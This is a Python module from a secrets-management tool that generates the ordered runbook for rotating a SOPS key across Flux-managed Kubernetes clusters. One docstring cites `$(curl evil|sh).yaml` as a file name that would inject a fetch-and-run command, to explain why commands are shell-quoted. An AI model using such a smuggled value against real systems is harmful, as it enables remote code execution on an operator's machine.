"""`sopskit runbook rotate-key`: the ordered steps to replace one key in this repository.

The order is what keeps every cluster able to decrypt at every moment: the new key goes
into the clusters' decryption secrets and into the files first; only when every cluster
has reconciled files readable by the new key (a tag-tracking cluster only after a new tag)
is the old key retired, the data keys rotated, and the old key taken out of the clusters.
The steps are data (`Step`); `to_text` renders them. Which clusters track tags is read
from the registry's cluster descriptions ("tracks release tags"), else guessed from the
name (`prod...`); the rendering says which.
"""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

from sopskit import git_tags
from sopskit.errors import UsageError
from sopskit.flux.check import cluster_sources
from sopskit.flux.decryption_secret import entry_name
from sopskit.flux.tracking import Tracking as FluxTracking
from sopskit.history.exposure import FileExposure, KeyRef, ValueExposure, exposure
from sopskit.recipient import Recipient
from sopskit.registry.model import ALL_CLUSTERS, Cluster, Key, Registry
from sopskit.registry.resolve import today_utc

FLUX_SECRET_DIR = "keys/flux"  # noqa: S105 - a directory, outside Flux's paths


@dataclass(frozen=True)
class Tracking:
    cluster: str
    kind: Literal["branch", "tag"]
    ref: str  # the branch, or the tag it reconciles (or "" when there is none yet)
    guessed: bool
    source: str = ""  # "GitRepository clusters/x/...: semver >=1 <2" when read from Flux


@dataclass(frozen=True)
class Step:
    title: str
    commands: tuple[str, ...] = ()
    notes: tuple[str, ...] = ()
    warnings: tuple[str, ...] = ()
    done: str | None = None  # set when the repository shows the step is already done


@dataclass(frozen=True)
class Runbook:
    key: str
    new: str
    clusters: tuple[Tracking, ...]
    steps: tuple[Step, ...]


def tracking(cluster: Cluster, tag: str | None, flux: FluxTracking | None = None,
             where: str = "") -> Tracking:
    """Whether a cluster reconciles a branch or release tags: from its Flux GitRepository
    (`flux`) when the repository commits one, else from its registry description, else
    guessed from its name (said so in the runbook)."""
    if flux is not None:
        label = f"GitRepository {where}: {flux.kind} {flux.ref}".replace("  ", " ")
        if flux.kind == "branch":
            return Tracking(cluster.name, "branch", flux.ref, False, label)
        # a tag, a semver range (its resolved tag), a pinned commit or ref name
        return Tracking(cluster.name, "tag", flux.tag or (flux.ref if flux.kind == "tag"
                                                          else ""), False, label)
    text = cluster.description.lower()
    branch = re.search(r"tracks\s+(?:the\s+)?([\w./-]+)\s+branch|tracks\s+([\w./-]+)$", text)
    if "tag" in text:
        return Tracking(cluster.name, "tag", tag or "", False)
    if branch:
        return Tracking(cluster.name, "branch", branch.group(1) or branch.group(2), False)
    if cluster.name.lower().startswith("prod"):
        return Tracking(cluster.name, "tag", tag or "", True)
    return Tracking(cluster.name, "branch", "main", True)


def still_needing(at_tag: Mapping[str, frozenset[Recipient]], old: Key,
                  new: Key | None) -> list[str]:
    """Files at the tag readable by `old` but not by `new` (all of them while `new` is
    not registered): removing `old` from a cluster on that tag breaks them."""
    return sorted(p for p, rs in at_tag.items() if old.recipient in rs
                  and (new is None or new.recipient not in rs))


def default_new_name(name: str) -> str:
    base = re.sub(r"-\d{4,8}$", "", name)
    return f"{base}-{today_utc():%Y%m}"


def sh(*words: str) -> str:
    """One shell command line: every word quoted (shlex), because names come from the
    repository (file paths, branch names from Flux objects, registry names) and a name such
    as `$(curl evil|sh).yaml` must stay a name when the operator pastes the command."""
    return shlex.join(words)


def _clusters_of(registry: Registry, key: Key) -> tuple[str, ...]:
    return tuple(registry.clusters) if ALL_CLUSTERS in key.clusters else key.clusters


def _secret_path(cluster: str) -> str:
    return f"{FLUX_SECRET_DIR}/{cluster}-sops-age.sops.yaml"


def _secret_commands(cluster: str) -> tuple[str, ...]:
    path = _secret_path(cluster)
    return (sh("sopskit", "flux", "secret", cluster, "--out", path),
            sh("sopskit", "decrypt", path) + " | "
            + sh("kubectl", "--context", cluster, "apply", "-f", "-"))


def step_generate(key: Key, new: str, registry: Registry) -> Step:
    clusters = [w for c in key.clusters for w in ("--cluster", c)]
    owner = ["--owner", key.owner] if key.owner else []
    done = f"{new} is in the registry" if new in registry.keys else None
    # the identity store keeps age identities; a PGP secret key goes into the GnuPG home
    store = (sh("gpg", "--batch", "--import") if key.type == "pgp"
             else sh("sopskit", "identity", "add", new, "--stdin"))
    generate = sh("sopskit", "keys", "generate", new, "--type", key.type, *clusters, *owner,
                  "--print-private")
    return Step(f"Create {new} and register it",
                (f"{generate} | {store}", "sopskit config render"),
                (f"the private key goes straight into your "
                 f"{'GnuPG home' if key.type == 'pgp' else 'identity store (OS keyring)'}; "
                 "keep an offline backup as your team's policy says",), done=done)


def step_add_to_clusters(key: Key, new: str, clusters: tuple[str, ...]) -> Step:
    if ALL_CLUSTERS in key.clusters:
        return Step(f"Clusters: nothing to add for {new}",
                    notes=(f"{key.name} serves every cluster: an admin key, never stored in "
                           "a cluster. The clusters' decryption secrets are encrypted to the "
                           "admin keys: they are regenerated once the old key is retired "
                           "(step \"Re-encrypt the clusters' decryption secrets\").",))
    commands = tuple(c for cluster in clusters for c in _secret_commands(cluster))
    return Step(f"Put {new}'s private key into each cluster's Flux decryption secret, "
                f"next to {key.name}", commands,
                (f"the `sops-age` Secret in flux-system then holds "
                 f"{entry_name(key.name, key.type)} and {entry_name(new, key.type)}; Flux "
                 "tries every *.agekey (*.asc for PGP) entry",
                 f"keep {FLUX_SECRET_DIR}/ out of every Flux Kustomization path"))


def step_rekey(title: str, key_word: str) -> Step:
    return Step(title, ("sopskit rekey", "sopskit rekey --apply"),
                (f"the plan should show {key_word}; --apply prints the proof per file",))


def step_commit(message: str) -> Step:
    return Step("Commit", ("git add -A keys .sops.yaml && git add -u",
                           sh("git", "commit", "-m", message)))


def step_roll_out(trackings: tuple[Tracking, ...], when: str) -> Step:
    commands: list[str] = []
    notes: list[str] = []
    for t in trackings:
        if t.kind == "branch":
            commands += [sh("git", "push", "origin", f"HEAD:{t.ref}"),
                         sh("flux", "reconcile", "source", "git", "flux-system", "--context",
                            t.cluster),
                         sh("flux", "get", "kustomizations", "--context", t.cluster)]
            notes.append(f"{t.cluster} tracks {t.ref}: wait until every Kustomization is "
                         "Ready at the pushed commit")
        else:
            tag = "<next-tag>"
            # <next-tag> is a placeholder the operator replaces: left unquoted on purpose
            commands += [f"git tag -a {tag} -m {shlex.quote(when)} && git push origin {tag}",
                         sh("flux", "get", "sources", "git", "--context", t.cluster),
                         sh("flux", "get", "kustomizations", "--context", t.cluster)]
            notes.append(f"{t.cluster} tracks release tags (now: {t.ref or 'none'}): wait "
                         f"until it has reconciled {tag}, not just until the push")
        if t.source:
            notes.append(f"({t.cluster}: read from its {t.source})")
        if t.guessed:
            notes.append(f"({t.cluster}: tracking guessed from its name; say `tracks ...` "
                         "in its registry description)")
    return Step(f"Roll out and wait ({when})", tuple(commands), tuple(notes))


def step_retire(key: Key) -> Step:
    verb = "revoke" if key.status == "revoked" else "retire"
    done = f"{key.name} is {key.status} in the registry" if key.status != "active" else None
    return Step(f"{verb.capitalize()} {key.name}: it stops being a recipient",
                (sh("sopskit", "keys", verb, key.name), "sopskit config render"), done=done)


def step_remove_from_clusters(key: Key, clusters: tuple[str, ...],
                              warnings: tuple[str, ...]) -> Step:
    if ALL_CLUSTERS in key.clusters:
        commands = tuple(c for cluster in clusters for c in _secret_commands(cluster))
        return Step(f"Re-encrypt the clusters' decryption secrets without {key.name}",
                    commands, ("the secrets are encrypted to the admin keys; the generated "
                               "files no longer list the retired one",), warnings)
    commands = tuple(c for cluster in clusters for c in _secret_commands(cluster))
    patch = json.dumps([{"op": "remove", "path": f"/data/{entry_name(key.name, key.type)}"}],
                       separators=(",", ":"))
    commands += tuple(sh("kubectl", "--context", c, "-n", "flux-system", "patch", "secret",
                         "sops-age", "--type=json", "-p", patch) for c in clusters)
    return Step(f"Remove {key.name} from the clusters' decryption secrets", commands,
                ("regenerating the secret leaves the retired key out; the kubectl patch "
                 "does the same in place",), warnings)


def step_verify(trackings: tuple[Tracking, ...]) -> Step:
    commands: tuple[str, ...] = ("sopskit rekey", "sopskit verify --require-mac .",
                                 "sopskit audit")
    commands += tuple(sh("flux", "get", "kustomizations", "--context", t.cluster)
                      for t in trackings)
    return Step("Verify", commands, ("`sopskit rekey` must plan nothing for every file; "
                                     "every Kustomization Ready",))


def step_destroy(key: Key) -> Step:
    command = (sh("gpg", "--delete-secret-keys", key.recipient.id) if key.type == "pgp"
               else sh("sopskit", "identity", "remove", key.name))  # the keyring: age only
    return Step(f"Destroy {key.name}'s private key", (command,),
                ("delete every other copy (backups, password manager, CI variables); "
                 "keep the public entry in the registry (as "
                 f"{'retired' if key.status == 'active' else key.status}) for the audit "
                 "trail",))


def step_change_values(key: Key, live: list[tuple[FileExposure, list[ValueExposure]]]
                       ) -> Step:
    """The values `key` could read in any commit that may still be today's (`exposure`:
    unchanged or unknown), grouped by file, with the command that stores a new value."""
    notes = ["re-encryption does not help: git history keeps the old ciphertexts, which "
             f"{key.name} opens. Change each value below at its source (database password, "
             "API token, certificate), then store the new value:"]
    for f, values in live:
        notes += [f"{f.path}: {v.key_path} ({v.status})" for v in values]
    if not live:
        notes = [f"no value {key.name} could read in any commit is still in use: nothing "
                 "to change"]
    return Step(f"{key.name} is revoked (leaked or its holder left): change the values "
                "themselves", tuple(sh("sopskit", "edit", f.path) for f, _ in live),
                tuple(notes))


def _tag_warning(repo: Path, key: Key, new: Key | None,
                 trackings: tuple[Tracking, ...]) -> tuple[str, ...]:
    """For each tag a tag-tracking cluster reconciles: the files there that `key` can read
    and `new` cannot."""
    by_tag: dict[str, list[str]] = {}
    for t in trackings:
        if t.kind == "tag" and t.ref:
            by_tag.setdefault(t.ref, []).append(t.cluster)
    out = []
    for tag, tagged in sorted(by_tag.items()):
        needing = still_needing(git_tags.recipients_at(repo, tag), key, new)
        if not needing:
            continue
        names = ", ".join(needing[:5]) + (f" and {len(needing) - 5} more"
                                          if len(needing) > 5 else "")
        verb = "reconciles" if len(tagged) == 1 else "reconcile"
        out.append(f"{', '.join(tagged)} {verb} tag {tag}, where {len(needing)} file(s) are "
                   f"encrypted to {key.name} and not to "
                   f"{new.name if new else 'its successor'} ({names}): removing {key.name} "
                   "from those clusters now breaks them. Cut and reconcile a new tag first "
                   "(the roll-out step above), then run this runbook again to re-check.")
    return tuple(out)


def trackings_of(repo: Path, registry: Registry, clusters: tuple[str, ...]
                 ) -> tuple[Tracking, ...]:
    """Each cluster's tracking, read from Flux where the repository says it."""
    flux = cluster_sources(repo, registry)
    tag = git_tags.latest_tag(repo)
    return tuple(tracking(registry.clusters[c], tag, *flux.get(c, (None, "")))
                 for c in clusters if c in registry.clusters)


def rotate_key_runbook(repo: Path, registry: Registry, name: str,
                       new: str | None = None) -> Runbook:
    """The runbook to replace key `name` by `new` (default `<name>-<YYYYMM>`)."""
    key = registry.keys.get(name)
    if key is None:
        raise UsageError(f"no key {name!r} in the registry", path=registry.path)
    if not key.managed:
        raise UsageError(f"{name!r} is a {key.type} key: it is rotated in its cloud service; "
                         "sopskit only re-keys files once the registry names the new key",
                         path=registry.path)
    new_name = new or default_new_name(name)
    clusters = _clusters_of(registry, key)
    trackings = trackings_of(repo, registry, clusters)
    warnings = _tag_warning(repo, key, registry.keys.get(new_name), trackings)
    steps = [step_generate(key, new_name, registry), step_add_to_clusters(key, new_name,
                                                                          clusters),
             step_rekey(f"Re-key the files for {new_name}", f"`updatekeys` adding {new_name}"),
             step_commit(f"keys: add {new_name} (replaces {name})"),
             step_roll_out(trackings, f"files readable by {new_name}"), step_retire(key),
             step_rekey(f"Re-key without {name}: new data keys",
                        f"`updatekeys+rotate` removing {name}"),
             step_commit(f"keys: {name} retired, data keys rotated"),
             step_roll_out(trackings, f"files without {name}"),
             step_remove_from_clusters(key, clusters, warnings), step_verify(trackings),
             step_destroy(key)]
    if key.status == "revoked":
        ref = KeyRef(key.name, key.recipient, key.effective_status(today_utc()))
        steps.insert(0, step_change_values(key, exposure(repo, ref).live()))
    return Runbook(name, new_name, trackings, tuple(steps))


def to_text(book: Runbook) -> str:
    """The runbook as numbered Markdown-ish text."""
    where = ", ".join(f"{t.cluster} ({'tag' if t.kind == 'tag' else 'branch'} "
                      f"{t.ref or 'none yet'})" for t in book.clusters)
    lines = [f"# Rotate {book.key} -> {book.new}", "", f"Clusters: {where or 'none'}", ""]
    for n, step in enumerate(book.steps, start=1):
        done = f"  [already done: {step.done}]" if step.done else ""
        lines.append(f"{n}. {step.title}{done}")
        lines += [f"     $ {c}" for c in step.commands]
        lines += [f"     - {note}" for note in step.notes]
        lines += [f"     WARNING: {w}" for w in step.warnings]
        lines.append("")
    return "\n".join(lines).rstrip() + "\n"
